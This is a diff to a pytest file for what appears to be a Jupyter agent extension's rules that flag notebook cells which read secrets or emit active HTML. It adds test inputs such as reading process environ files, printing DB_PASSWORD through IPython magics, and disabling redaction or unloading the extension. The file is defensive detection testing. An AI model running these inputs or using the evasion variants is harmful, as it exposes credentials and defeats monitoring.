@@ -9,6 +9,7 @@ import pytest
 
 from jupyter_devstral.core.agent.active_html import output_finding
 from jupyter_devstral.core.agent.rules import findings
+from tests.support.growth import cpu_growth
 from tests.support.ordinary_cells import (
     is_rightly_asked,
     ordinary_cells,
@@ -74,6 +75,16 @@ def test_no_ordinary_cell_is_asked_about_needlessly(shared_data: Path) -> None:
         "open('.env').read()",
         "Path.home() / '.ssh' / 'id_rsa'",
         "open('/proc/self/environ','rb')",
+        "open('/proc/thread-self/environ','rb')",
+        "open('/proc/self/task/12/environ','rb')",
+        "reset -f",
+        "\nenv DB_PASSWORD\n",
+        "env",
+        "config DevstralConfig.redact = False",
+        "unload_ext jupyter_devstral",
+        "%time env DB_PASSWORD",
+        "from decouple import config",
+        "get_ipython().run_cell('env DB_PASSWORD')",
         "HTML(f'<img src=\"{address}\">')",
         "html = '<img src=\"//x.org/?' + s + '\">'\nHTML(html)",
         "HTML('<svg onload=alert(1)>')",
@@ -115,6 +126,11 @@ def test_what_a_rehearsal_cannot_see_is_asked_about(source: str) -> None:
         "os.environ.get('MAX_TOKENS')",
         "'HOME' in os.environ",
         "del df['a']",
+        "store",
+        "config = 1",
+        "env.step(action)",
+        "env = gym.make(name)",
+        "config InlineBackend.figure_format = 'svg'",
         "del x",
         "columns = ['credentials', 'shadow', 'age']",
         "df['secret_santa']",
@@ -254,3 +270,11 @@ def test_a_table_in_an_output_is_harmless_and_a_script_is_not() -> None:
     assert output_finding({"image/svg+xml": svg.replace("<g/>", "<image href='//x'/>")}) != ""
     assert output_finding({"text/html": ["<b>", "<script src=x>"]}) != ""
     assert output_finding({"application/javascript": "x"}) == "it shows JavaScript"
+
+
+def test_many_displays_of_many_texts_are_read_in_time() -> None:
+    def read(size: int) -> None:
+        texts = "\n".join(f"x{at} = '<b>{at}</b>'" for at in range(size))
+        assert findings(texts + "\n" + "\n".join(f"HTML(x{at})" for at in range(size))) == ()
+
+    assert cpu_growth(read, 2_000) < 1.5
